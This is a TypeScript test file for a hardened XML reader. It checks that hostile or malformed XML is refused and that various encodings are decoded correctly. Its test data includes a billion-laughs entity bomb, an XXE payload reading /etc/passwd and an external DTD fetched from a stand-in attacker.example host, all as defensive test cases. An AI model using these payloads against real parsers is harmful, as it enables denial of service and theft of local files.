import { describe, expect, it } from 'vitest'
import { thrown } from '#test/thrown.ts'
import { readXml } from './read-xml.ts'
import { XML_LIMITS } from './xml-limits.ts'
import { textOf } from './xml-tree.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const latin1 = (text: string): Uint8Array => Uint8Array.from(text, c => c.charCodeAt(0))
const utf16 = (text: string): Uint8Array =>
  Uint8Array.from([...text].flatMap(c => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8]))
const refusal = (source: string | Uint8Array) => thrown(() => readXml(source)).items[0]

const BILLION = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`
const EXTERNAL = `<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>`

describe('a stranger’s XML', () => {
  it.each([
    ['a billion laughs', BILLION, 'doctype'],
    ['an external entity', EXTERNAL, 'doctype'],
    ['an external parameter entity', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', 'doctype'],
    ['an entity nobody declared', '<a>&nbsp;</a>', 'malformed_xml'],
    ['depth 10,000', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), 'too_deep'],
    ['half a million elements', `<a>${'<b/>'.repeat(500_000)}</a>`, 'too_many_nodes'],
    [
      'half a million attributes',
      `<a ${Array.from({ length: 500_000 }, (_, i) => `b${i}=""`).join(' ')}/>`,
      'too_many_nodes',
    ],
    ['one endless text', `<a>${'x'.repeat(XML_LIMITS.text + 1)}</a>`, 'text_too_long'],
    ['one endless text in pieces', `<a>${`${'x'.repeat(999_999)}<![CDATA[yy]]>`}</a>`, 'text_too_long'],
    ['a control character', '<a>\u0007</a>', 'malformed_xml'],
    ['a control character by number', '<a>&#1;</a>', 'malformed_xml'],
    ['a control character XML allows', '<a>\u0090</a>', 'control_character'],
    ['half a character', '<a>\ud800</a>', 'broken_characters'],
    ['a prefix nobody declared', '<p:a/>', 'malformed_xml'],
    ['two roots', '<a/><b/>', 'malformed_xml'],
    ['nothing at all', '', 'malformed_xml'],
    ['no XML', 'Dear council,', 'malformed_xml'],
  ])('is refused with %s', (_, source, code) => {
    expect(refusal(source)?.code).toBe(code)
  })

  it('is refused beyond 20 MB before it is parsed', () => {
    const error = thrown(() => readXml(' '.repeat(20 * 1024 * 1024 + 1)))
    expect(error.code).toBe('too_large')
    expect(error.items[0]?.message).toContain('20 MB')
  })

  it('is refused with the line and the column of the mistake', () => {
    expect(refusal('<a>\n  <b>\n  </c>\n</a>')?.message).toMatch(/line 3, column 7/)
  })
})

describe('encodings', () => {
  it.each([
    ['UTF-8', utf8('<?xml version="1.0" encoding="UTF-8"?><a>é</a>')],
    ['UTF-8 with a byte order mark', utf8('\uFEFF<?xml version="1.0"?><a>é</a>')],
    ['Latin-1 that says so', latin1('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>')],
    ['UTF-16 with a byte order mark', utf16('\uFEFF<?xml version="1.0" encoding="UTF-16"?><a>é</a>')],
    ['UTF-16 without one', utf16('<?xml version="1.0" encoding="UTF-16"?><a>é</a>')],
  ])('%s is read', (_, bytes) => {
    expect(textOf(readXml(bytes).root)).toBe('é')
  })

  it.each([
    ['Latin-1 that says UTF-8', latin1('<?xml version="1.0" encoding="UTF-8"?><a>é</a>')],
    ['Latin-1 that says nothing', latin1('<a>é</a>')],
    ['UTF-8 that says UTF-16', utf8('<?xml version="1.0" encoding="UTF-16"?><a>é</a>')],
    ['an encoding nobody knows', utf8('<?xml version="1.0" encoding="klingon"?><a/>')],
  ])('%s is refused, saying what to do', (_, bytes) => {
    expect(refusal(bytes)).toMatchObject({ code: 'wrong_encoding', fix: expect.stringContaining('UTF-8') })
  })

  it('a declaration is ignored once the text is decoded', () => {
    expect(textOf(readXml('<?xml version="1.0" encoding="UTF-16"?><a>é</a>').root)).toBe('é')
  })
})
